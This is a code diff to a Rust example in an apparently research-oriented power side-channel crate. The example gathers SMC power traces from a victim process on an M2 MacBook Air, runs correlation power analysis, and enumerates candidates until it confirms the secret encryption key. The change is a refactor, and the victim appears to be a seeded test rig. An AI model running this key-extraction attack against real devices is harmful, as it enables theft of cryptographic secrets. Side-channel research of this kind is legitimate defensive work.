@@ -8,12 +8,12 @@
 //! Run with: `cargo run --release --example key_extraction -- [traces]`
 //! (default 40000; more traces → lower guessing entropy).
 
-use apple_power_sca::core::{Campaign, Device, VictimKind};
-use apple_power_sca::sca::cpa::Cpa;
+use apple_power_sca::core::{Campaign, Device, Rig, VictimKind};
 use apple_power_sca::sca::enumerate::{verify_with_pair, KeyEnumerator};
 use apple_power_sca::sca::model::Rd0Hw;
 use apple_power_sca::sca::rank::{guessing_entropy, recovery_tally};
 use apple_power_sca::smc::key::key;
+use apple_power_sca::telemetry::ChannelId;
 
 fn main() {
     let traces: usize = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(40_000);
@@ -24,15 +24,13 @@ fn main() {
     let shards = std::thread::available_parallelism().map_or(4, |n| n.get().min(8));
 
     println!("collecting {traces} PHPC traces from the user-space victim (M2, {shards} shards)...");
-    let sets = Campaign::live(Device::MacbookAirM2, VictimKind::UserSpace, secret_key, 0xFEED)
+    let report = Campaign::live(Device::MacbookAirM2, VictimKind::UserSpace, secret_key, 0xFEED)
         .keys(&[key("PHPC")])
         .traces(traces)
         .shards(shards)
         .session()
-        .collect();
-
-    let mut cpa = Cpa::new(Box::new(Rd0Hw));
-    cpa.add_set(&sets[&key("PHPC")]);
+        .cpa(|| Box::new(Rd0Hw));
+    let cpa = report.cpa.cpa(ChannelId::Smc(key("PHPC"))).expect("registered");
 
     println!("\n#byte  true  best-guess  corr      rank");
     let ranks = cpa.ranks(&secret_key);
@@ -57,12 +55,13 @@ fn main() {
 
     // The endgame: even with only partial recovery, enumerate full-key
     // candidates in plausibility order and verify each against one known
-    // plaintext/ciphertext pair recorded during collection.
-    let sample = sets[&key("PHPC")].traces()[0];
-    let enumerator = KeyEnumerator::from_cpa(&cpa);
+    // plaintext/ciphertext pair: one more call to the victim's service.
+    let victim = Rig::new(Device::MacbookAirM2, VictimKind::UserSpace, secret_key, 0xFEED).victim;
+    let plaintext = [0x42; 16];
+    let ciphertext = victim.request_encrypt(plaintext);
+    let enumerator = KeyEnumerator::from_cpa(cpa);
     print!("\nenumerating candidates (budget 200000)... ");
-    match enumerator.search(200_000, |c| verify_with_pair(c, &sample.plaintext, &sample.ciphertext))
-    {
+    match enumerator.search(200_000, |c| verify_with_pair(c, &plaintext, &ciphertext)) {
         Some((found, tried)) => {
             println!("KEY CONFIRMED after {tried} candidates:");
             let hex: Vec<String> = found.iter().map(|b| format!("{b:02X}")).collect();
